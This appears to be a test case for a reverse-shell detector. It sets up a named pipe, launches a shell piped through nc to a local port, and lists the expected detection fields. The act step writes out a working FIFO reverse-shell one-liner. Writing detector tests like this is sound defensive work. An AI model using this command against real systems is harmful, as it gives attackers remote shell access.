# R02b: sh runs a FIFO that nc writes into
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $nc
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4432
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
peer 4432; rm -f /tmp/r02b; mkfifo /tmp/r02b
#: act
. lib/peers.sh
act
(sh /tmp/r02b 2>&1 | nc 127.0.0.1 4432 > /tmp/r02b) < /dev/null > /dev/null 2>&1 &
who shell 'sh /tmp/r02b'; who nc 'nc 127.0.0.1 4432'
await 'at $shell 10 /tmp/r02b && same $shell 1 $nc 0 && at $nc 1 /tmp/r02b && at $nc 3 socket:*'
#: clean
rm -f /tmp/r02b
